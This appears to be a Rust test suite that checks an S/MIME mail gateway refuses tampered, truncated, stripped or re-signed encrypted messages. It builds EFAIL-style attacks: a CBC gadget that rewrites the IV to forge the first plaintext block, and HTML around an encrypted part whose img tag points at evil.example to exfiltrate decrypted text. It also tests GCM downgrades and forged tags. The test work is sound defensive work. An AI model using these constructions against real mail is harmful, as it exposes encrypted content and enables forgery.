//! T1 to T8: the message is altered, cut, or taken from its author.

use super::*;
use crate::attacks::der::{self, tlv};
use crate::support::openssl::{encrypt_der, oaep};

/// Any alteration of a signed and encrypted message: refused, or what arrives
/// is what alice wrote.
fn altered(test: &str, shape: usize) {
    if !here(test) {
        return;
    }
    let site = Site::with(STRICT);
    let (name, protected) = &shapes(TEXT)[shape];
    let original = from_alice(protected);
    let header = split(&original).0.len();
    let mut refused = 0;
    let mut check = |message: &[u8], what: &str| {
        let outcome = to_carol(&site, message);
        if outcome.status == 0 {
            assert_eq!(entity_of(got(&outcome)), TEXT, "{name}, {what}: altered content was delivered");
            assert_eq!(results(got(&outcome)), results(got(&to_carol(&site, &original))), "{name}, {what}");
            return;
        }
        refused += 1;
        let reply = outcome.reply();
        let allowed = ["550 5.7.7", "550 5.7.5", "550 5.7.6", "550 5.7.1", "554 5.6.0", "550 5.5.2"];
        assert!(allowed.contains(&reply.as_str()), "{name}, {what}: {reply}");
        // Under an outer signature none is used but where the damage hides that there is one.
        assert!(outcome.private_key_operations() <= 1, "{name}, {what}: {}", outcome.json);
    };
    for at in (0..original.len()).step_by(17) {
        let mut message = original.clone();
        message[at] ^= 1 << (at % 7);
        check(&message, &format!("bit {} of octet {at}", at % 7));
    }
    for cut in [1, 3, 64, 700, original.len() - header - 10] {
        check(&original[..original.len() - cut], &format!("{cut} octets cut off"));
    }
    for tail in [&b"\r\nMore\r\n"[..], b"AAAA\r\n"] {
        check(&[&original[..], tail].concat(), "more at the end");
    }
    assert!(refused > 40, "{name}: only {refused} were refused");
}

#[test]
fn t01_bit_flip_encrypt_then_sign() {
    altered("t01_bit_flip_encrypt_then_sign", 0);
}

#[test]
fn t01_bit_flip_sign_then_encrypt() {
    altered("t01_bit_flip_sign_then_encrypt", 1);
}

#[test]
fn t01_bit_flip_triple_wrap() {
    altered("t01_bit_flip_triple_wrap", 2);
}

/// A flip in the signed octets of an outer signature: 550 5.7.7, no key used.
#[test]
fn t01_bit_flip_in_signed_octets() {
    if !here("t01_bit_flip_in_signed_octets") {
        return;
    }
    let site = Site::with(STRICT);
    for shape in [0, 2] {
        let original = from_alice(&shapes(TEXT)[shape].1);
        let start = find(&original, b"smime.p7m").expect("the encrypted part") + 120;
        for at in (start..start + 400).step_by(40) {
            let mut message = original.clone();
            if !message[at].is_ascii_alphanumeric() {
                // A line end: another refusal, of its own.
                continue;
            }
            message[at] = if message[at] == b'A' { b'B' } else { b'A' };
            to_carol(&site, &message).refused("550 5.7.7").without_key();
        }
    }
}

/// alice's ciphertext with its first block rewritten: known plaintext turns
/// `Content-Type: te…` into what mallory likes.
fn gadget(inner: &[u8]) -> Vec<u8> {
    let mut der = encrypt_der(&["carol"], inner, "aes-256-cbc", &[]);
    let known = &inner[..16];
    let wanted = b"Content-Type: mu";
    for (i, octet) in der::iv(&mut der).iter_mut().enumerate() {
        *octet ^= known[i] ^ wanted[i];
    }
    pkcs7_mime("enveloped-data", &der)
}

#[test]
fn t02_efail_cbc_gadget() {
    if !here("t02_efail_cbc_gadget") {
        return;
    }
    let site = Site::with(STRICT);
    let spliced = gadget(TEXT);
    // (a) under alice's old signature
    let original = sign("alice", &encrypt(&["carol"], TEXT, "aes-256-cbc", &[]), &[]);
    let (_, outer) = split(&original);
    let delimiter = [b"\r\n", first_delimiter(outer), b"\r\n"].concat();
    let signature_part = original.windows(delimiter.len()).rposition(|w| w == delimiter).expect("the signature");
    let first =
        original.windows(delimiter.len()).position(|w| w == delimiter).expect("the first part") + delimiter.len();
    let forged = [&original[..first], &spliced, &original[signature_part..]].concat();
    to_carol(&site, &from_alice(&forged)).refused("550 5.7.7").without_key();
    // (b) signed again by mallory: only the missing inner signature betrays it
    let forged = message(MALLORY, CAROL, &sign("mallory", &spliced, &[]));
    let outcome = site.inbound(MALLORY, &[CAROL], &forged);
    outcome.refused("550 5.7.7");
    assert_eq!(outcome.private_key_operations(), 1);
    // (c) with the signature dropped
    let open = Site::new();
    to_carol(&open, &from_alice(&spliced)).refused("550 5.7.7");
    // an inner signature of alice's that the gadget breaks
    let spliced = gadget(&sign("alice", TEXT, &["-nodetach"]).split_off(b"MIME-Version: 1.0\r\n".len()));
    to_carol(&open, &from_alice(&spliced)).refused("550 5.7.7");
}

fn first_delimiter(body: &[u8]) -> &[u8] {
    let line = body.split(|octet| *octet == b'\n').find(|line| line.starts_with(b"--")).expect("a delimiter");
    line.strip_suffix(b"\r").unwrap_or(line)
}

/// An encrypted part between HTML parts: never opened, never merged.
#[test]
fn t03_efail_direct() {
    if !here("t03_efail_direct") {
        return;
    }
    let sealed = encrypt(&["carol"], TEXT, "aes-256-cbc", &[]);
    let sealed = String::from_utf8(sealed).expect("text").replace("MIME-Version: 1.0\r\n", "");
    let html = "Content-Type: text/html\r\n\r\n";
    for subtype in ["mixed", "alternative"] {
        let entity = format!(
            "Content-Type: multipart/{subtype}; boundary=b\r\n\r\n--b\r\n{html}<img src=\"http://evil.example/\r\n\
             --b\r\n{sealed}\r\n--b\r\n{html}\">\r\n--b--\r\n"
        );
        let nested = format!("Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\n{entity}\r\n--o--\r\n");
        for entity in [entity, nested] {
            let message = from_alice(entity.as_bytes());
            to_carol(&Site::with(STRICT), &message).refused("550 5.7.1").without_key();
            let outcome = to_carol(&Site::new(), &message);
            outcome.without_key();
            assert_eq!(entity_of(got(&outcome)), entity.as_bytes(), "delivered as it came, still encrypted");
            assert!(!results(got(&outcome)).contains(&"pass".to_owned()));
        }
    }
}

#[test]
fn t04_signature_stripped() {
    if !here("t04_signature_stripped") {
        return;
    }
    let (strict, open) = (Site::with(STRICT), Site::new());
    for cipher in ["aes-256-cbc", "aes-256-gcm"] {
        let message = from_alice(&encrypt(&["carol"], TEXT, cipher, &[]));
        let outcome = to_carol(&strict, &message);
        // Nothing can be a signature inside of CBC before it is opened.
        assert!(["550 5.7.1", "550 5.7.7"].contains(&outcome.reply().as_str()), "{}", outcome.json);
        let outcome = to_carol(&open, &message);
        if cipher == "aes-256-cbc" {
            outcome.refused("550 5.7.7");
        } else {
            assert_eq!(entity_of(got(&outcome)), TEXT);
            assert!(!results(got(&outcome)).contains(&"pass".to_owned()), "{:?}", results(got(&outcome)));
        }
    }
    to_carol(&strict, &from_alice(TEXT)).refused("550 5.7.1").without_key();
    let outcome = to_carol(&open, &from_alice(TEXT));
    assert!(!results(got(&outcome)).contains(&"pass".to_owned()));
}

/// alice's ciphertext under mallory's signature.
#[test]
fn t05_strip_and_resign() {
    if !here("t05_strip_and_resign") {
        return;
    }
    let strict = Site::with(STRICT);
    let inner = sign("alice", TEXT, &[]);
    for cipher in ["aes-256-cbc", "aes-256-gcm"] {
        for entity in [TEXT, &inner] {
            let resigned = sign("mallory", &encrypt(&["carol"], entity, cipher, &[]), &[]);
            to_carol(&strict, &from_alice(&resigned)).refused("550 5.7.1").without_key();
            let outcome = site_mallory(&strict, &resigned);
            let inner_by_alice = entity != TEXT;
            if cipher == "aes-256-cbc" && !inner_by_alice {
                outcome.refused("550 5.7.7");
            } else if inner_by_alice {
                // Two authors: never a pass for mallory.
                assert!(
                    outcome.status != 0 || !results(got(&outcome)).contains(&"pass".to_owned()),
                    "{}",
                    outcome.json
                );
            }
        }
    }
}

/// AES-GCM labelled as CBC, and tags of the wrong length.
#[test]
fn t08_aead_downgrade() {
    if !here("t08_aead_downgrade") {
        return;
    }
    let site = Site::new();
    let key: Vec<String> = oaep("sha256");
    let key: Vec<&str> = key.iter().map(String::as_str).collect();
    let gcm = encrypt_der(&["carol"], MIXED, "aes-256-gcm", &key);
    let auth_enveloped = der::inside(&gcm);
    let parts = der::children(&auth_enveloped);
    let [_, recipients, encrypted, mac] = parts[..] else { panic!("version, recipients, content, mac") };
    let ciphertext = der::content(der::children(encrypted)[2]);
    let whole = &ciphertext[..ciphertext.len() / 16 * 16];
    let relabelled = pkcs7_mime("enveloped-data", &der::enveloped(recipients, &[7; 16], whole));
    let outcome = to_carol(&site, &from_alice(&relabelled));
    outcome.refused("550 5.7.7");
    assert!(outcome.private_key_operations() <= 1);
    let outcome = site_mallory(&site, &sign("mallory", &relabelled, &[]));
    outcome.refused("550 5.7.7");
    assert!(outcome.private_key_operations() <= 1);

    for len in [0, 1, 4, 11] {
        let short = [&[2, 1, 0], recipients, encrypted, &tlv(4, &der::content(mac)[..len])].concat();
        let cms = der::content_info(der::children(&gcm)[0], &tlv(0x30, &short));
        to_carol(&site, &from_alice(&pkcs7_mime("authEnveloped-data", &cms))).refused("550 5.7.7").without_key();
    }
    // The whole, put together again by the same means, does arrive.
    let same = [&[2, 1, 0], recipients, encrypted, mac].concat();
    let cms = der::content_info(der::children(&gcm)[0], &tlv(0x30, &same));
    let outcome = to_carol(&site, &from_alice(&pkcs7_mime("authEnveloped-data", &cms)));
    assert_eq!(entity_of(got(&outcome)), MIXED);
}

/// The last octet of a large message: nothing of it gets out.
#[test]
fn t09_early_release() {
    if !here("t09_early_release") {
        return;
    }
    let site = Site::new();
    let line = b"The offer stands until Friday, and not a day longer than that.\r\n";
    // 24 MB, which base64 brings close to the largest message that is accepted.
    let large = [b"Content-Type: text/plain\r\n\r\n".to_vec(), line.repeat(375_000)].concat();
    let mut gcm = encrypt_der(&["carol"], &large, "aes-256-gcm", &[]);
    *gcm.last_mut().expect("a tag") ^= 1;
    let sealed = pkcs7_mime("authEnveloped-data", &gcm);
    to_carol(&site, &from_alice(&sealed)).refused("550 5.7.7");
    site_mallory(&site, &sign("mallory", &sealed, &[])).refused("550 5.7.7");
}
